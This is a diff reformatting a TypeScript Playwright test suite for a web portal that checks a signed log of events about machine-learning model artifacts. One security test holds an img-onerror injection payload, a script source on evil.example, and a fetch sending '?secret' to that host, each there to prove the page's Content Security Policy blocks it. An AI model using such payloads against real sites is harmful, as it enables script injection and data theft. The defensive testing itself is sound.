@@ -33,426 +33,519 @@ const STATES: Readonly<Record<string, string>> = {
   noindex: "A part of the log’s index is missing here.",
 };
 
-describe("the page", { skip: browserPath === undefined && "no Chrome or Chromium is installed (CHROMIUM=PATH names one)" }, () => {
-  let browser: Browser;
-  let host: Host;
-  let shipped: string | undefined = POLICY;
-  /** Lets late files come. */
-  let letGo: () => void;
+describe(
+  "the page",
+  { skip: browserPath === undefined && "no Chrome or Chromium is installed (CHROMIUM=PATH names one)" },
+  () => {
+    let browser: Browser;
+    let host: Host;
+    let shipped: string | undefined = POLICY;
+    /** Lets late files come. */
+    let letGo: () => void;
 
-  before(async () => {
-    const dist = await temporary("fixture");
-    const { build } = (await import(pathToFileURL(join(site, "build.mjs")).href)) as { build(options: object): Promise<void> };
-    await build({ out: dist, fixture: true });
-    host = await serveFixture(dist, () => shipped, new Promise((resolve) => (letGo = resolve)));
-    browser = await launch(["--host-resolver-rules=MAP models.test 127.0.0.1"]);
-    await mkdir(shots, { recursive: true });
-  });
-
-  after(async () => {
-    await browser?.close();
-    await host?.close();
-  });
-
-  /** Opens the page, runs, and fails when the page itself was at fault. */
-  async function visit(fragment: string, run: (page: Page) => Promise<void>, options: BrowserContextOptions & { allow?: RegExp; url?: string } = {}): Promise<void> {
-    const { allow, url = host.url, ...context } = options;
-    const { page, faults } = await openPage(browser, context);
-    await withAxe(page.context());
-    const elsewhere: string[] = [];
-    page.on("request", (request) => {
-      if (!request.url().startsWith(url) && !/^(blob|data):/.test(request.url())) elsewhere.push(request.url());
-    });
-    try {
-      await page.goto(`${url}portal/${fragment}`);
-      await run(page);
-      assert.deepEqual(allow ? faults.filter((fault) => !allow.test(fault)) : faults, []);
-      assert.deepEqual(elsewhere, [], "no other host is asked");
-    } finally {
-      await page.context().close();
-    }
-  }
-
-  async function look(page: Page, name: string): Promise<void> {
-    await page.screenshot({ path: join(shots, `${name}.png`), fullPage: true });
-    assert.deepEqual(await seriousFaults(page), []);
-    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true, "nothing sticks out sideways");
-  }
-
-  const headline = (page: Page, text: string): Promise<void> => page.getByRole("heading", { level: 1, name: text, exact: true }).waitFor();
-
-  for (const scheme of ["light", "dark"] as const) {
-    for (const [device, width, height] of [["phone", 390, 844], ["tablet", 820, 1180], ["desktop", 1280, 900]] as const) {
-      test(`every state has its words and nothing serious against it: ${device}, ${scheme}`, async () => {
-        await visit("", async (page) => {
-          await headline(page, "Who touched this model, when, and why?");
-          await look(page, `welcome-${device}-${scheme}`);
-          for (const [state, words] of Object.entries(STATES)) {
-            await page.evaluate((fragment) => (location.hash = fragment), `#q=${state}`);
-            await headline(page, words);
-            if (state === "odd" || state === "resnet50@2.1") await page.locator("gl-events button.toggle").first().click();
-            await look(page, `${state.replace("@", "-")}-${device}-${scheme}`);
-          }
-        }, { viewport: { width, height }, colorScheme: scheme });
-      });
-    }
-  }
-
-  test("nothing is green before it is proven, and nothing jumps when it is", async () => {
-    await visit("#q=slow", async (page) => {
-      await headline(page, "Checking slow");
-      assert.equal(await page.locator("gl-verdict .pass").count(), 0);
-      assert.equal(await page.locator("gl-verdict svg.mark.pending").count(), 4);
-      assert.equal(await page.locator("gl-events").count(), 0);
-      await page.screenshot({ path: join(shots, "working-desktop-light.png") });
-      await page.evaluate(watchShifts);
-      await page.evaluate(() => (location.hash = "#q=resnet50@2.1"));
-      await headline(page, STATES["resnet50@2.1"] ?? "");
-      await page.waitForTimeout(200);
-      assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { shifts: string[] }).shifts), []);
-    });
-  });
-
-  test("events stand in their places as their entries are read, none green before the verdict, and nothing jumps", async () => {
-    await visit("", async (page) => {
-      await headline(page, "Who touched this model, when, and why?");
-      await page.evaluate(() => (location.hash = "#q=waves"));
-      await page.getByText("5000 events, positions proven against the index; 300 read so far").waitFor();
-      await page.waitForTimeout(200); // the page itself has come by now
-      await page.evaluate(watchShifts);
-      assert.equal(await page.locator("gl-events .pass").count(), 0);
-      assert.equal(await page.locator("gl-events table").getAttribute("aria-rowcount"), "5001");
-      assert.equal(await page.locator("gl-events tr.event").first().locator(".at").innerText(), "100");
-      await page.locator("gl-events .rows").evaluate((list) => (list.scrollTop = 100_000));
-      await page.getByText("being verified").first().waitFor();
-      await page.screenshot({ path: join(shots, "waves-desktop-light.png") }); // a whole page would have to be laid out anew
-      await page.locator("gl-events .rows").evaluate((list) => (list.scrollTop = 900));
-      letGo();
-      await headline(page, "All 5000 events recorded about waves are here, and none was changed.");
-      await page.locator("gl-events .pass").first().waitFor();
-      assert.equal(await page.locator("gl-events .rows").evaluate((list) => list.scrollTop), 900, "the reader stays in place");
-      await page.waitForTimeout(200);
-      assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { shifts: string[] }).shifts), []);
-    });
-  });
-
-  test("works without a mouse", async () => {
-    await visit("", async (page) => {
-      await headline(page, "Who touched this model, when, and why?");
-      await page.keyboard.press("/");
-      await page.keyboard.type("resnet50@2.1");
-      await page.keyboard.press("Enter");
-      await headline(page, STATES["resnet50@2.1"] ?? "");
-      assert.match(page.url(), /#q=resnet50@2\.1$/);
-      const focused = async (): Promise<string> => page.evaluate(() => {
-        let element = document.activeElement;
-        while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
-        return (element?.getAttribute("aria-label") ?? element?.textContent ?? "").trim();
-      });
-      const tabTo = async (name: RegExp): Promise<void> => {
-        for (let step = 0; step < 60; step++) {
-          if (name.test(await focused())) return;
-          await page.keyboard.press("Tab");
-        }
-        assert.fail(`no way by keyboard to ${name}`);
+    before(async () => {
+      const dist = await temporary("fixture");
+      const { build } = (await import(pathToFileURL(join(site, "build.mjs")).href)) as {
+        build(options: object): Promise<void>;
       };
-      await tabTo(/^Review$/);
-      await page.keyboard.press("Enter");
-      await page.getByRole("dialog", { name: "Whose signatures count" }).waitFor();
-      await page.keyboard.press("Escape");
-      await page.getByRole("dialog").waitFor({ state: "hidden" });
-      await tabTo(/^transfer$/);
-      await page.keyboard.press("Enter");
-      await page.getByText("from team:ml-platform to team:edge").waitFor();
-      await tabTo(/^ml-platform$/);
-      await page.keyboard.press("Enter");
-      await headline(page, "All 9 events recorded about the actor ml-platform are here, and none was changed.");
-      assert.equal(await focused(), "All 9 events recorded about the actor ml-platform are here, and none was changed.", "the reader goes on at the new verdict");
-      await page.goBack();
-      await headline(page, STATES["resnet50@2.1"] ?? "");
+      await build({ out: dist, fixture: true });
+      host = await serveFixture(dist, () => shipped, new Promise((resolve) => (letGo = resolve)));
+      browser = await launch(["--host-resolver-rules=MAP models.test 127.0.0.1"]);
+      await mkdir(shots, { recursive: true });
     });
-  });
 
-  test("what happened is announced to screen readers", async () => {
-    await visit("#q=altered", async (page) => {
-      await headline(page, STATES["altered"] ?? "");
-      const status = page.locator("gl-portal > .hush, .hush[aria-live]").last();
-      assert.match((await status.textContent()) ?? "", /^This copy of the record was altered or damaged\..*First thing that failed: entry 88204/);
-      assert.match(await page.title(), /^This copy of the record was altered/);
-      assert.equal(await page.locator("gl-verdict").getByRole("img", { name: "failed" }).count(), 2, "the sentence and the claim");
+    after(async () => {
+      await browser?.close();
+      await host?.close();
     });
-  });
 
-  test("text from the log is data, odd characters are seen, and identifiers are copied whole", async () => {
-    await visit("#q=odd", async (page) => {
-      await headline(page, STATES["odd"] ?? "");
-      assert.equal(await page.locator("gl-events img").count(), 0);
-      assert.ok((await page.locator("gl-events .odd").allTextContents()).includes("U+202E"));
-      await page.locator("gl-events button.toggle").first().click();
-      assert.equal(await page.locator("gl-event a[href^='javascript']").count(), 0);
-      const id = page.locator("gl-event gl-id").first();
-      const whole = await id.evaluate((element) => (element as unknown as { value: string }).value);
-      await id.hover();
-      const { x, y, width, height } = (await id.boundingBox()) ?? assert.fail("the identifier is not on show");
-      await page.mouse.move(x, y + height / 2);
-      await page.mouse.down();
-      await page.mouse.move(x + width, y + height / 2, { steps: 5 });
-      await page.mouse.up();
-      await page.keyboard.press("Control+C");
-      await page.waitForFunction(async () => (await navigator.clipboard.readText()) !== ""); // the browser copies when it gets to it
-      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), whole);
-      await page.locator("gl-event gl-id button").first().click();
-      assert.equal(await id.locator("bdi").innerText(), whole);
-    }, { permissions: ["clipboard-read", "clipboard-write"] });
-  });
-
-  test("what is injected does not run, and nothing leaves for another host", async () => {
-    await visit("", async (page) => {
-      await headline(page, "Who touched this model, when, and why?");
-      const outcome = await page.evaluate(async () => {
-        const seen = globalThis as unknown as { ran?: boolean };
-        const attempt = (act: () => void): string => {
-          try {
-            act();
-            return "went through";
-          } catch (error) {
-            return (error as Error).name;
-          }
-        };
-        const script = document.createElement("script");
-        return {
-          markup: attempt(() => (document.body.innerHTML = "<img src=x onerror='ran=true'>")),
-          script: attempt(() => (script.text = "ran=true")),
-          source: attempt(() => (script.src = "https://evil.example/x.js")),
-          worker: attempt(() => new Worker("portal.js")),
-          elsewhere: await fetch("https://evil.example/?secret").then(() => "went through", (error: Error) => error.name),
-          ran: seen.ran ?? false,
-        };
+    /** Opens the page, runs, and fails when the page itself was at fault. */
+    async function visit(
+      fragment: string,
+      run: (page: Page) => Promise<void>,
+      options: BrowserContextOptions & { allow?: RegExp; url?: string } = {},
+    ): Promise<void> {
+      const { allow, url = host.url, ...context } = options;
+      const { page, faults } = await openPage(browser, context);
+      await withAxe(page.context());
+      const elsewhere: string[] = [];
+      page.on("request", (request) => {
+        if (!request.url().startsWith(url) && !/^(blob|data):/.test(request.url())) elsewhere.push(request.url());
       });
-      assert.deepEqual(outcome, { markup: "TypeError", script: "TypeError", source: "TypeError", worker: "TypeError", elsewhere: "TypeError", ran: false });
-    }, { allow: /security policy|Content Security Policy|TrustedHTML|Trusted|evil\.example/ });
-  });
-
-  test("a dropped model is hashed here and found by its digest", async () => {
-    await visit("", async (page) => {
-      await drop(page, "model.bin", "weights");
-      await headline(page, "All 9 events recorded about the file model.bin are here, and none was changed.");
-      assert.match(page.url(), /#q=sha256:92745110[0-9a-f]{56}$/);
-    });
-  });
-
-  test("a dropped bundle is verified without a request", async () => {
-    await visit("", async (page) => {
-      await headline(page, "Who touched this model, when, and why?");
-      await drop(page, "resnet.glasslog-bundle", "glasslog-bundle/v1\nrest");
-      await page.getByText("all in this tab and without a request").waitFor();
-      await page.getByText("glasslog verify bundle resnet.glasslog-bundle --policy trust.policy").waitFor();
-    });
-  });
-
-  test("where the index does not answer, the whole log can be read instead", async () => {
-    await visit("#q=noindex", async (page) => {
-      await headline(page, STATES["noindex"] ?? "");
-      await page.getByRole("button", { name: "Read the whole log instead" }).click();
-      await page.getByText(/^glasslog history noindex .* --full-scan$/).waitFor();
-      await headline(page, "All 9 events recorded about resnet50@2.1 are here, and none was changed.");
-      assert.match(page.url(), /#q=noindex&scan=full$/);
-      assert.equal(await page.getByRole("button", { name: "Read the whole log instead" }).count(), 0);
-      await page.getByLabel("Artifact, digest, actor or key").fill("claimed");
-      await page.keyboard.press("Enter");
-      await headline(page, STATES["claimed"] ?? "");
-      assert.match(page.url(), /#q=claimed$/, "the next question asks the index again");
-    });
-  });
-
-  test("a dropped fraud proof is judged without a request, and says who is accused of what", async () => {
-    await visit("", async (page) => {
-      await headline(page, "Who touched this model, when, and why?");
-      const proof = (text: string): Promise<void> => drop(page, "index.fraud", `glasslog-index-fraud/v1\n${text}\n`);
-      await proof("kind omission audited");
-      await headline(page, "The accusation holds: the index models.example.com/access/index leaves out an entry that it must list.");
-      await page.getByText("glasslog verify fraud index.fraud --policy trust.policy").waitFor();
-      await page.getByText("all in this tab and without a request").waitFor();
-      for (const words of ["entry 12 of the index", "entry 16\u202f391 of the log", "auditor.example.org"]) await page.locator("gl-fraud").getByText(words, { exact: true }).waitFor();
-      assert.equal(await page.locator("gl-verdict .claims").count(), 0, "nothing is claimed about events");
-      await look(page, "fraud-desktop-light");
-      await proof("kind omission wrong");
-      await headline(page, "This file proves nothing against the index.");
-      await page.locator("gl-verdict").getByText(/First thing that failed: nothing false is shown/).waitFor();
-      await look(page, "fraud-wrong-desktop-light");
-      await proof("kind omission stranger");
-      await headline(page, "Your trust file does not name the index that stands accused here.");
-      await proof("");
-      await headline(page, "This is not a fraud proof that can be checked.");
-      assert.equal(await page.locator("gl-fraud").count(), 0);
-    });
-  });
-
-  test("without a trust file the page asks for one, keeps it, and forgets it on request", async () => {
-    shipped = undefined;
-    try {
-      await visit("#q=resnet50@2.1", async (page) => {
-        await headline(page, "Whose word should count?");
-        await page.getByRole("button", { name: "Choose a trust file" }).click();
-        await page.getByLabel("The file itself").fill(POLICY);
-        await page.screenshot({ path: join(shots, "trust-desktop-light.png") });
-        assert.deepEqual(await seriousFaults(page), []);
-        await page.getByRole("button", { name: "Trust these keys" }).click();
-        await headline(page, STATES["resnet50@2.1"] ?? "");
-        await page.getByText("your own trust file").waitFor();
-        await page.reload();
-        await page.getByText("your own trust file").waitFor();
-        await page.getByRole("button", { name: "Review" }).click();
-        await page.getByRole("button", { name: "Forget mine" }).click();
-        await headline(page, "Whose word should count?");
-        await drop(page, "trust.policy", OTHER_POLICY);
-        await page.getByRole("dialog").getByText("ffffffff", { exact: true }).waitFor();
-        await page.keyboard.press("Escape");
-        await headline(page, "Whose word should count?");
-      });
-    } finally {
-      shipped = POLICY;
-    }
-  });
-
-  test("a trust file that changes under the same page is told, and the earlier one counts until the reader says otherwise", async () => {
-    const url = host.url.replace("127.0.0.1", "models.test");
-    try {
-      await visit("#q=resnet50@2.1", async (page) => {
-        await page.getByText("the trust file that came with this page", { exact: true }).waitFor();
-        shipped = OTHER_POLICY;
-        await page.reload();
-        await page.getByText("The trust file that comes with this page has changed.").waitFor();
-        await page.getByRole("button", { name: "Review" }).click();
-        await page.getByRole("dialog").getByText("0a1b2c3d", { exact: true }).waitFor();
-        await page.getByRole("button", { name: "Accept the new one" }).click();
-        await page.getByText("the trust file that came with this page", { exact: true }).waitFor();
-      }, { url });
-    } finally {
-      shipped = POLICY;
-    }
-  });
-
-  test("a limit on the checkpoint's age is a part of the question", async () => {
-    await visit("#q=old", async (page) => {
-      await page.getByLabel("Oldest checkpoint to accept as fresh").selectOption("1h");
-      await headline(page, "The 9 events about old are genuine, but newer ones could exist.");
-      await page.getByText("--max-checkpoint-age 1h").waitFor();
-      assert.match(page.url(), /#q=old&age=1h$/);
-    });
-  });
-
-  test("what is no question, and what cannot be reached, is no verdict", async () => {
-    await visit("#q=pkg:npm/x", async (page) => {
-      await headline(page, "That is not something to look up.");
-      await page.locator("gl-verdict").getByText("a package address needs a digest").waitFor();
-      assert.equal(await page.locator("gl-verdict .claims").count(), 0);
-    });
-    await visit("#q=x@1&log=https://elsewhere.example/log", async (page) => {
-      await headline(page, "This page may not read that log.");
-    }, { allow: /connect-src|elsewhere\.example/ });
-  });
-
-  test("of a long history only what is on show is drawn; it scrolls, turns, filters and is walked through by keys", async () => {
-    await visit("#q=many", async (page) => {
-      await headline(page, "All 5000 events recorded about many are here, and none was changed.");
-      const rows = page.locator("gl-events tr.event");
-      assert.ok((await rows.count()) < 80, "few rows are drawn");
-      assert.equal(await page.locator("gl-events table").getAttribute("aria-rowcount"), "5001");
-      assert.equal(await page.locator("gl-timeline g.hit").count(), 200);
-      // Scrolled to its end, the list shows its last event, and says which row that is.
-      const list = page.getByRole("group", { name: "List of events" });
-      await list.evaluate((element) => (element.scrollTop = element.scrollHeight));
-      await page.locator("#entry-100080").waitFor();
-      assert.equal(await page.locator("#entry-100080").getAttribute("aria-rowindex"), "5001");
-      assert.ok((await rows.count()) < 80);
-      // A mark in the timeline opens its row, and brings it on show.
-      await list.evaluate((element) => (element.scrollTop = 0));
-      await page.locator("gl-timeline g.hit").nth(150).click();
-      await page.locator("gl-event").waitFor();
-      assert.ok(await page.locator("gl-events tr.open").evaluate((row) => row.getBoundingClientRect().top > 0));
-      await page.locator("gl-events tr.open button.toggle").click();
-      // From row to row by keys, past those that are drawn.
-      await page.getByRole("button", { name: "Newest first" }).click();
-      await page.locator("#entry-100080 button.toggle").focus();
-      for (const [key, entry] of [["ArrowDown", 100_060], ["End", 100], ["ArrowUp", 120], ["Home", 100_080]] as const) {
-        await page.keyboard.press(key);
-        await page.waitForFunction((id) => {
-          let element = document.activeElement;
-          while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
-          return element?.closest("tr")?.id === id;
-        }, `entry-${entry}`);
+      try {
+        await page.goto(`${url}portal/${fragment}`);
+        await run(page);
+        assert.deepEqual(allow ? faults.filter((fault) => !allow.test(fault)) : faults, []);
+        assert.deepEqual(elsewhere, [], "no other host is asked");
+      } finally {
+        await page.context().close();
       }
-      // The focus outlives its row's leaving the window.
-      await list.evaluate((element) => (element.scrollTop = 90_000));
-      await page.waitForFunction(() => document.activeElement !== document.body);
-      await page.waitForTimeout(50);
-      assert.equal(await page.locator("#entry-100080").count(), 1);
-      // The strip leads to earlier events.
-      await page.getByRole("slider").focus();
-      await page.keyboard.press("Home");
-      assert.match((await page.getByRole("slider").getAttribute("aria-valuetext")) ?? "", /^events 1 to 200 of 5000, /);
-      // A filter looks at all of them.
-      await page.getByLabel("Filter events by words").fill("service-3 deploy");
-      await page.getByText("55 of 5000 events, 1 actor; times are UTC, as actors claim them").waitFor();
-      assert.equal(await rows.count(), 55, "a short list is drawn whole");
-      await page.getByLabel("Filter events by kind").selectOption("custody");
-      await page.getByText("None of the 5000 events is like that.").waitFor();
-      await look(page, "many-none-desktop-light");
-      await page.getByLabel("Filter events by words").fill("");
-      await page.getByLabel("Filter events by kind").selectOption("all");
-      await page.getByText("5000 events, 13 actors").waitFor();
-      await look(page, "many-desktop-light");
-    });
-  });
+    }
 
-  test("a hundred thousand events stay fluid", async (context) => {
-    await visit("#q=huge", async (page) => {
-      await page.evaluate(watchFrames);
-      const measured = async (name: string): Promise<void> => {
-        const { median, worst, long } = await page.evaluate(takeFrames);
-        context.diagnostic(`${name}: frames of ${median} ms, worst ${worst} ms, ${long} ms in tasks over 50 ms`);
-        // Generous, for machines that do something else besides: drawing all rows would take seconds.
-        assert.ok(median < 100, `${name}: frames of ${median} ms`);
-      };
-      await headline(page, "All 100\u202f000 events recorded about huge are here, and none was changed.");
-      const list = page.getByRole("group", { name: "List of events" });
-      await list.waitFor();
-      await page.waitForTimeout(300);
-      await measured("arrival");
-      for (const [device, width, height] of [["desktop", 1280, 900], ["phone", 390, 844]] as const) {
-        await page.setViewportSize({ width, height });
-        await list.hover();
-        await page.waitForTimeout(100);
-        await page.evaluate(takeFrames);
-        for (let step = 0; step < 40; step++) await page.mouse.wheel(0, 400);
-        await page.waitForTimeout(200);
-        await measured(`wheel, ${device}`);
-        await list.evaluate(async (element) => {
-          for (let step = 0; step <= 60; step++) {
-            element.scrollTop = (element.scrollHeight * ((step * 37) % 61)) / 61;
-            await new Promise((resolve) => requestAnimationFrame(resolve));
-          }
+    async function look(page: Page, name: string): Promise<void> {
+      await page.screenshot({ path: join(shots, `${name}.png`), fullPage: true });
+      assert.deepEqual(await seriousFaults(page), []);
+      assert.equal(
+        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
+        true,
+        "nothing sticks out sideways",
+      );
+    }
+
+    const headline = (page: Page, text: string): Promise<void> =>
+      page.getByRole("heading", { level: 1, name: text, exact: true }).waitFor();
+
+    for (const scheme of ["light", "dark"] as const) {
+      for (const [device, width, height] of [
+        ["phone", 390, 844],
+        ["tablet", 820, 1180],
+        ["desktop", 1280, 900],
+      ] as const) {
+        test(`every state has its words and nothing serious against it: ${device}, ${scheme}`, async () => {
+          await visit(
+            "",
+            async (page) => {
+              await headline(page, "Who touched this model, when, and why?");
+              await look(page, `welcome-${device}-${scheme}`);
+              for (const [state, words] of Object.entries(STATES)) {
+                await page.evaluate((fragment) => (location.hash = fragment), `#q=${state}`);
+                await headline(page, words);
+                if (state === "odd" || state === "resnet50@2.1")
+                  await page.locator("gl-events button.toggle").first().click();
+                await look(page, `${state.replace("@", "-")}-${device}-${scheme}`);
+              }
+            },
+            { viewport: { width, height }, colorScheme: scheme },
+          );
         });
-        await measured(`leaps, ${device}`);
-        assert.ok((await page.locator("gl-events tr").count()) < 90, "few rows are drawn");
-        await look(page, `huge-${device}-light`);
       }
-      await page.evaluate(takeFrames);
-      await page.getByLabel("Filter events by words").fill("service-3 deploy");
-      await page.locator("gl-events").getByText(/^1099 of 100/).waitFor();
-      await measured("filter");
+    }
+
+    test("nothing is green before it is proven, and nothing jumps when it is", async () => {
+      await visit("#q=slow", async (page) => {
+        await headline(page, "Checking slow");
+        assert.equal(await page.locator("gl-verdict .pass").count(), 0);
+        assert.equal(await page.locator("gl-verdict svg.mark.pending").count(), 4);
+        assert.equal(await page.locator("gl-events").count(), 0);
+        await page.screenshot({ path: join(shots, "working-desktop-light.png") });
+        await page.evaluate(watchShifts);
+        await page.evaluate(() => (location.hash = "#q=resnet50@2.1"));
+        await headline(page, STATES["resnet50@2.1"] ?? "");
+        await page.waitForTimeout(200);
+        assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { shifts: string[] }).shifts), []);
+      });
     });
-  });
-});
+
+    test("events stand in their places as their entries are read, none green before the verdict, and nothing jumps", async () => {
+      await visit("", async (page) => {
+        await headline(page, "Who touched this model, when, and why?");
+        await page.evaluate(() => (location.hash = "#q=waves"));
+        await page.getByText("5000 events, positions proven against the index; 300 read so far").waitFor();
+        await page.waitForTimeout(200); // the page itself has come by now
+        await page.evaluate(watchShifts);
+        assert.equal(await page.locator("gl-events .pass").count(), 0);
+        assert.equal(await page.locator("gl-events table").getAttribute("aria-rowcount"), "5001");
+        assert.equal(await page.locator("gl-events tr.event").first().locator(".at").innerText(), "100");
+        await page.locator("gl-events .rows").evaluate((list) => (list.scrollTop = 100_000));
+        await page.getByText("being verified").first().waitFor();
+        await page.screenshot({ path: join(shots, "waves-desktop-light.png") }); // a whole page would have to be laid out anew
+        await page.locator("gl-events .rows").evaluate((list) => (list.scrollTop = 900));
+        letGo();
+        await headline(page, "All 5000 events recorded about waves are here, and none was changed.");
+        await page.locator("gl-events .pass").first().waitFor();
+        assert.equal(
+          await page.locator("gl-events .rows").evaluate((list) => list.scrollTop),
+          900,
+          "the reader stays in place",
+        );
+        await page.waitForTimeout(200);
+        assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { shifts: string[] }).shifts), []);
+      });
+    });
+
+    test("works without a mouse", async () => {
+      await visit("", async (page) => {
+        await headline(page, "Who touched this model, when, and why?");
+        await page.keyboard.press("/");
+        await page.keyboard.type("resnet50@2.1");
+        await page.keyboard.press("Enter");
+        await headline(page, STATES["resnet50@2.1"] ?? "");
+        assert.match(page.url(), /#q=resnet50@2\.1$/);
+        const focused = async (): Promise<string> =>
+          page.evaluate(() => {
+            let element = document.activeElement;
+            while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
+            return (element?.getAttribute("aria-label") ?? element?.textContent ?? "").trim();
+          });
+        const tabTo = async (name: RegExp): Promise<void> => {
+          for (let step = 0; step < 60; step++) {
+            if (name.test(await focused())) return;
+            await page.keyboard.press("Tab");
+          }
+          assert.fail(`no way by keyboard to ${name}`);
+        };
+        await tabTo(/^Review$/);
+        await page.keyboard.press("Enter");
+        await page.getByRole("dialog", { name: "Whose signatures count" }).waitFor();
+        await page.keyboard.press("Escape");
+        await page.getByRole("dialog").waitFor({ state: "hidden" });
+        await tabTo(/^transfer$/);
+        await page.keyboard.press("Enter");
+        await page.getByText("from team:ml-platform to team:edge").waitFor();
+        await tabTo(/^ml-platform$/);
+        await page.keyboard.press("Enter");
+        await headline(page, "All 9 events recorded about the actor ml-platform are here, and none was changed.");
+        assert.equal(
+          await focused(),
+          "All 9 events recorded about the actor ml-platform are here, and none was changed.",
+          "the reader goes on at the new verdict",
+        );
+        await page.goBack();
+        await headline(page, STATES["resnet50@2.1"] ?? "");
+      });
+    });
+
+    test("what happened is announced to screen readers", async () => {
+      await visit("#q=altered", async (page) => {
+        await headline(page, STATES["altered"] ?? "");
+        const status = page.locator("gl-portal > .hush, .hush[aria-live]").last();
+        assert.match(
+          (await status.textContent()) ?? "",
+          /^This copy of the record was altered or damaged\..*First thing that failed: entry 88204/,
+        );
+        assert.match(await page.title(), /^This copy of the record was altered/);
+        assert.equal(
+          await page.locator("gl-verdict").getByRole("img", { name: "failed" }).count(),
+          2,
+          "the sentence and the claim",
+        );
+      });
+    });
+
+    test("text from the log is data, odd characters are seen, and identifiers are copied whole", async () => {
+      await visit(
+        "#q=odd",
+        async (page) => {
+          await headline(page, STATES["odd"] ?? "");
+          assert.equal(await page.locator("gl-events img").count(), 0);
+          assert.ok((await page.locator("gl-events .odd").allTextContents()).includes("U+202E"));
+          await page.locator("gl-events button.toggle").first().click();
+          assert.equal(await page.locator("gl-event a[href^='javascript']").count(), 0);
+          const id = page.locator("gl-event gl-id").first();
+          const whole = await id.evaluate((element) => (element as unknown as { value: string }).value);
+          await id.hover();
+          const { x, y, width, height } = (await id.boundingBox()) ?? assert.fail("the identifier is not on show");
+          await page.mouse.move(x, y + height / 2);
+          await page.mouse.down();
+          await page.mouse.move(x + width, y + height / 2, { steps: 5 });
+          await page.mouse.up();
+          await page.keyboard.press("Control+C");
+          await page.waitForFunction(async () => (await navigator.clipboard.readText()) !== ""); // the browser copies when it gets to it
+          assert.equal(await page.evaluate(() => navigator.clipboard.readText()), whole);
+          await page.locator("gl-event gl-id button").first().click();
+          assert.equal(await id.locator("bdi").innerText(), whole);
+        },
+        { permissions: ["clipboard-read", "clipboard-write"] },
+      );
+    });
+
+    test("what is injected does not run, and nothing leaves for another host", async () => {
+      await visit(
+        "",
+        async (page) => {
+          await headline(page, "Who touched this model, when, and why?");
+          const outcome = await page.evaluate(async () => {
+            const seen = globalThis as unknown as { ran?: boolean };
+            const attempt = (act: () => void): string => {
+              try {
+                act();
+                return "went through";
+              } catch (error) {
+                return (error as Error).name;
+              }
+            };
+            const script = document.createElement("script");
+            return {
+              markup: attempt(() => (document.body.innerHTML = "<img src=x onerror='ran=true'>")),
+              script: attempt(() => (script.text = "ran=true")),
+              source: attempt(() => (script.src = "https://evil.example/x.js")),
+              worker: attempt(() => new Worker("portal.js")),
+              elsewhere: await fetch("https://evil.example/?secret").then(
+                () => "went through",
+                (error: Error) => error.name,
+              ),
+              ran: seen.ran ?? false,
+            };
+          });
+          assert.deepEqual(outcome, {
+            markup: "TypeError",
+            script: "TypeError",
+            source: "TypeError",
+            worker: "TypeError",
+            elsewhere: "TypeError",
+            ran: false,
+          });
+        },
+        { allow: /security policy|Content Security Policy|TrustedHTML|Trusted|evil\.example/ },
+      );
+    });
+
+    test("a dropped model is hashed here and found by its digest", async () => {
+      await visit("", async (page) => {
+        await drop(page, "model.bin", "weights");
+        await headline(page, "All 9 events recorded about the file model.bin are here, and none was changed.");
+        assert.match(page.url(), /#q=sha256:92745110[0-9a-f]{56}$/);
+      });
+    });
+
+    test("a dropped bundle is verified without a request", async () => {
+      await visit("", async (page) => {
+        await headline(page, "Who touched this model, when, and why?");
+        await drop(page, "resnet.glasslog-bundle", "glasslog-bundle/v1\nrest");
+        await page.getByText("all in this tab and without a request").waitFor();
+        await page.getByText("glasslog verify bundle resnet.glasslog-bundle --policy trust.policy").waitFor();
+      });
+    });
+
+    test("where the index does not answer, the whole log can be read instead", async () => {
+      await visit("#q=noindex", async (page) => {
+        await headline(page, STATES["noindex"] ?? "");
+        await page.getByRole("button", { name: "Read the whole log instead" }).click();
+        await page.getByText(/^glasslog history noindex .* --full-scan$/).waitFor();
+        await headline(page, "All 9 events recorded about resnet50@2.1 are here, and none was changed.");
+        assert.match(page.url(), /#q=noindex&scan=full$/);
+        assert.equal(await page.getByRole("button", { name: "Read the whole log instead" }).count(), 0);
+        await page.getByLabel("Artifact, digest, actor or key").fill("claimed");
+        await page.keyboard.press("Enter");
+        await headline(page, STATES["claimed"] ?? "");
+        assert.match(page.url(), /#q=claimed$/, "the next question asks the index again");
+      });
+    });
+
+    test("a dropped fraud proof is judged without a request, and says who is accused of what", async () => {
+      await visit("", async (page) => {
+        await headline(page, "Who touched this model, when, and why?");
+        const proof = (text: string): Promise<void> => drop(page, "index.fraud", `glasslog-index-fraud/v1\n${text}\n`);
+        await proof("kind omission audited");
+        await headline(
+          page,
+          "The accusation holds: the index models.example.com/access/index leaves out an entry that it must list.",
+        );
+        await page.getByText("glasslog verify fraud index.fraud --policy trust.policy").waitFor();
+        await page.getByText("all in this tab and without a request").waitFor();
+        for (const words of ["entry 12 of the index", "entry 16\u202f391 of the log", "auditor.example.org"])
+          await page.locator("gl-fraud").getByText(words, { exact: true }).waitFor();
+        assert.equal(await page.locator("gl-verdict .claims").count(), 0, "nothing is claimed about events");
+        await look(page, "fraud-desktop-light");
+        await proof("kind omission wrong");
+        await headline(page, "This file proves nothing against the index.");
+        await page
+          .locator("gl-verdict")
+          .getByText(/First thing that failed: nothing false is shown/)
+          .waitFor();
+        await look(page, "fraud-wrong-desktop-light");
+        await proof("kind omission stranger");
+        await headline(page, "Your trust file does not name the index that stands accused here.");
+        await proof("");
+        await headline(page, "This is not a fraud proof that can be checked.");
+        assert.equal(await page.locator("gl-fraud").count(), 0);
+      });
+    });
+
+    test("without a trust file the page asks for one, keeps it, and forgets it on request", async () => {
+      shipped = undefined;
+      try {
+        await visit("#q=resnet50@2.1", async (page) => {
+          await headline(page, "Whose word should count?");
+          await page.getByRole("button", { name: "Choose a trust file" }).click();
+          await page.getByLabel("The file itself").fill(POLICY);
+          await page.screenshot({ path: join(shots, "trust-desktop-light.png") });
+          assert.deepEqual(await seriousFaults(page), []);
+          await page.getByRole("button", { name: "Trust these keys" }).click();
+          await headline(page, STATES["resnet50@2.1"] ?? "");
